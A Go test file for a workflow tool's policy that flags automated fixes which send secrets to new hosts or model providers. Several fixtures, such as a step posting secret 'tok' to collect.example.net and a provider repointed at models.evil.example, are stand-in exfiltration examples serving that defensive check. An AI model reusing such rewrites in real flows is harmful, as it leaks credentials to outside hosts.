package thinker

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/flowctl/flowctl/blocks"
	"github.com/flowctl/flowctl/compiler"
)

// The accepted flow of the reach tests: an http step to a fixed host that
// gets the secret tok through a local, a scrape of a URL it computes, a
// value step, and an MCP server.
const reachAccepted = `flow "items" {}

secret "tok" {}

secret "other" {}

locals {
  auth = "Bearer ${secret.tok}"
}

mcp_server "files" {
  command = ["files-server", "--root", "."]
}

step "get" {
  use     = "http"
  url     = "https://API.example.com/v1/items"
  headers = { Authorization = local.auth }
}

step "page" {
  use = "scrape"
  url = step.get.body.next
}

step "keep" {
  use   = "value"
  value = step.get.status
}
`

// keepPost is step keep made to post the secret elsewhere.
const (
	keepValue = "  use   = \"value\"\n  value = step.get.status\n"
	keepPost  = "  use    = \"http\"\n  method = \"POST\"\n  url    = \"https://collect.example.net/x\"\n  body   = { token = secret.tok, status = step.get.status }\n"
)

// compileIn compiles a flow file written in a directory of its own, as
// the accepted flow and the copy a fix is written over are.
func compileIn(t *testing.T, src string) *compiler.Program {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "items.flow.hcl")
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	prog, diags := compiler.Compile(path, compiler.Options{})
	if diags.HasErrors() {
		t.Fatalf("%s\n%s", diags.Error(), src)
	}
	return prog
}

// TestReachProblems: a step a fix changes may use the secrets the
// accepted step of its name is given and the hosts the accepted flow's
// URLs (or the allow list) name; anything more is named, and steps the fix
// leaves alone are not looked at.
func TestReachProblems(t *testing.T) {
	accepted := compileIn(t, reachAccepted)
	policy := newReachPolicy(accepted, nil)
	if strings.Join(policy.hosts, " ") != "api.example.com" || policy.llm {
		t.Fatalf("hosts %v, llm %v", policy.hosts, policy.llm)
	}
	cases := []struct {
		name, from, to string
		allow          string
		want           []string
	}{
		{name: "unchanged", want: nil},
		{name: "same host, same secret",
			from: `url     = "https://API.example.com/v1/items"`, to: `url     = "https://api.example.com/v2/items?all=1"`},
		{name: "new secret and host",
			from: keepValue, to: keepPost,
			want: []string{"step keep needs secret tok, which the accepted flow does not pass to it", "step keep needs host collect.example.net, which the accepted flow does not reach"}},
		{name: "host in the allow list", allow: "*.example.net",
			from: keepValue, to: keepPost,
			want: []string{"step keep needs secret tok, which the accepted flow does not pass to it"}},
		{name: "a secret to another host the flow reaches",
			from: "  use = \"scrape\"\n  url = step.get.body.next\n", to: "  use = \"scrape\"\n  url = step.get.body.next\n}\n\nstep \"other\" {\n  use = \"http\"\n  url = \"https://collect.example.net/\"\n",
			allow: "*.example.net", want: nil},
		{name: "a secret moved to that host",
			from: `url     = "https://API.example.com/v1/items"`, to: `url     = "https://collect.example.net/items"`, allow: "collect.example.net",
			want: []string{"step get would send secret tok to host collect.example.net, where the accepted step get does not send it"}},
		{name: "a secret through a local",
			from: "step \"keep\" {", to: "locals {\n  more = upper(secret.other)\n}\n\nstep \"more\" {\n  use   = \"value\"\n  value = local.more\n}\n\nstep \"keep\" {",
			want: []string{"step more needs secret other, which the accepted flow does not pass to it"}},
		{name: "computed url changed",
			from: "  url = step.get.body.next\n", to: "  url = \"${step.get.body.next}?page=2\"\n",
			want: []string{"step page needs a host its url computes when it runs, which the accepted flow does not name"}},
		{name: "a model",
			from: "step \"keep\" {", to: "step \"ask\" {\n  use    = \"llm\"\n  prompt = \"Say hello\"\n}\n\nstep \"keep\" {",
			want: []string{"step ask calls a model (the model provider's host), which the accepted flow does not"}},
		{name: "mcp server changed",
			from: `"--root", "."`, to: `"--root", "/"`,
			want: []string{`mcp_server "files" is changed: it needs a program, host or environment the accepted flow does not use, and is not started`}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if !strings.Contains(reachAccepted, c.from) {
				t.Fatalf("the flow has no %q", c.from)
			}
			p := policy
			if c.allow != "" {
				e, err := blocks.ParseEgress(c.allow)
				if err != nil {
					t.Fatal(err)
				}
				p = newReachPolicy(accepted, e)
			}
			fixed := compileIn(t, strings.Replace(reachAccepted, c.from, c.to, 1))
			got := p.reachProblems(fixed)
			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
				t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
			}
		})
	}
}

// TestCheckSecretsAndEgress: the checked run has the real value of the
// secrets the accepted flow's steps use and a placeholder for the others,
// reads from the environment only theirs, and its http reaches only the
// accepted flow's hosts: none when it names none.
func TestCheckSecretsAndEgress(t *testing.T) {
	t.Setenv("FLOWCTL_SECRET_OTHER", "other-value")
	t.Setenv("OPENAI_API_KEY", "sk-provider")
	accepted := compileIn(t, reachAccepted)
	policy := newReachPolicy(accepted, nil)
	secrets, lookup := policy.checkSecrets(accepted, map[string]string{"tok": "tok-value", "other": "given-other"})
	if secrets["tok"] != "tok-value" || secrets["other"] != placeholderSecret || len(secrets) != 2 {
		t.Errorf("secrets: %v", secrets)
	}
	for env, want := range map[string]string{"FLOWCTL_SECRET_OTHER": placeholderSecret, "OPENAI_API_KEY": placeholderSecret} {
		if v, ok := lookup(env); !ok || v != want {
			t.Errorf("lookup(%s) = %q, %v; want %q", env, v, ok, want)
		}
	}
	t.Setenv("FLOWCTL_SECRET_TOK", "tok-env")
	if v, _ := lookup(accepted.SecretsByName["tok"].Env); v != "tok-env" {
		t.Errorf("lookup of tok's variable: %q", v)
	}
	e, err := policy.egress()
	if err != nil {
		t.Fatal(err)
	}
	if e.AllowsAll() || !e.Names("api.example.com") || e.Names("127.0.0.1") || e.Names("other.example.com") {
		t.Errorf("egress %+v", e)
	}
	none, err := newReachPolicy(compileIn(t, "flow \"x\" {}\n"), nil).egress()
	if err != nil {
		t.Fatal(err)
	}
	if none.AllowsAll() || none.Names("127.0.0.1") {
		t.Errorf("an accepted flow that names no host lets the check reach %+v", none)
	}
}

// TestReachSecretToModel: a step passed a secret that the fix makes call
// a model would send the secret to the model provider, though the flow
// calls one elsewhere.
func TestReachSecretToModel(t *testing.T) {
	const accepted = `flow "f" {}

secret "tok" {}

step "auth" {
  use     = "http"
  url     = "https://api.example.com/login"
  headers = { Authorization = secret.tok }
}

step "sum" {
  use    = "llm"
  prompt = "Say hello"
}
`
	fixed := strings.Replace(accepted, "  use     = \"http\"\n  url     = \"https://api.example.com/login\"\n  headers = { Authorization = secret.tok }\n",
		"  use    = \"llm\"\n  prompt = \"The token is ${secret.tok}\"\n", 1)
	got := newReachPolicy(compileIn(t, accepted), nil).reachProblems(compileIn(t, fixed))
	want := "step auth would send secret tok to the model provider, where the accepted step auth does not send it"
	if strings.Join(got, "\n") != want {
		t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), want)
	}
}

// TestReachProvider: a fix that points a provider at another server, or
// gives it another secret, is not run: the provider's key would go where
// the accepted flow does not send it.
func TestReachProvider(t *testing.T) {
	const accepted = `flow "f" {}

secret "tok" {}

secret "other" {}

provider "p" {
  base_url = "https://models.example.com/v1"
  api_key  = secret.tok
}

step "sum" {
  use      = "llm"
  provider = provider.p
  prompt   = "Say hello ${secret.other}"
}
`
	policy := newReachPolicy(compileIn(t, accepted), nil)
	for _, c := range []struct{ old, new, want string }{
		{"https://models.example.com/v1", "https://models.evil.example/v1", `provider "p" is changed`},
		{"api_key  = secret.tok", "api_key  = secret.other", `provider "p" is changed`},
	} {
		got := strings.Join(policy.reachProblems(compileIn(t, strings.Replace(accepted, c.old, c.new, 1))), "\n")
		if !strings.Contains(got, c.want) {
			t.Errorf("%s → %s: problems %q; want %q", c.old, c.new, got, c.want)
		}
	}
	if got := policy.reachProblems(compileIn(t, accepted)); len(got) != 0 {
		t.Errorf("the accepted flow itself: %v", got)
	}
	// The provider's key is handed to the checked run, as the step
	// that names the provider uses it.
	if !policy.used["tok"] {
		t.Errorf("the provider's key is not among the secrets the check hands over: %v", policy.used)
	}
	// A step that names the provider now, and did not, would send its key.
	const plain = `flow "f" {}

secret "tok" {}

provider "p" {
  base_url = "https://models.example.com/v1"
  api_key  = secret.tok
}

step "sum" {
  use    = "llm"
  prompt = "Say hello"
}
`
	got := newReachPolicy(compileIn(t, plain), nil).reachProblems(compileIn(t, strings.Replace(plain, `use    = "llm"`, "use      = \"llm\"\n  provider = provider.p", 1)))
	if want := "step sum needs secret tok, which the accepted flow does not pass to it"; strings.Join(got, "\n") != want {
		t.Errorf("problems %q; want %q", got, want)
	}
}

// TestReachSubflow: a flow a step uses runs only as the accepted flow
// has it; its secrets (handed down by name) count as used.
func TestReachSubflow(t *testing.T) {
	const main = `flow "main" {}

secret "tok" {}

step "brief" {
  use  = "flow.summarize"
  text = "hello"
}
`
	const sub = `flow "summarize" {}

secret "tok" {}

input "text" {
  type = string
}

step "post" {
  use     = "http"
  url     = "https://api.example.com/sum"
  headers = { Authorization = secret.tok }
}

output "summary" {
  value = input.text
}
`
	write := func(sub string) *compiler.Program {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "main.flow.hcl"), []byte(main), 0o644)
		os.WriteFile(filepath.Join(dir, "summarize.flow.hcl"), []byte(sub), 0o644)
		prog, diags := compiler.Compile(filepath.Join(dir, "main.flow.hcl"), compiler.Options{})
		if diags.HasErrors() {
			t.Fatal(diags.Error())
		}
		return prog
	}
	accepted := write(sub)
	policy := newReachPolicy(accepted, nil)
	if got := policy.reachProblems(write(sub)); len(got) != 0 {
		t.Errorf("the same flows: %q", got)
	}
	if strings.Join(policy.hosts, " ") != "api.example.com" || !policy.used["tok"] {
		t.Errorf("hosts %v, used %v", policy.hosts, policy.used)
	}
	t.Setenv("FLOWCTL_SECRET_TOK", "tok-env")
	if secrets, _ := policy.checkSecrets(accepted, nil); secrets["tok"] != "tok-env" {
		t.Errorf("secrets: %v", secrets)
	}
	changed := write(strings.Replace(sub, "https://api.example.com/sum", "https://collect.example.net/", 1))
	want := `step brief uses flow "summarize", which is not the flow the accepted step uses as it is: it is not run`
	if got := policy.reachProblems(changed); strings.Join(got, "\n") != want {
		t.Errorf("problems: %q", got)
	}
}
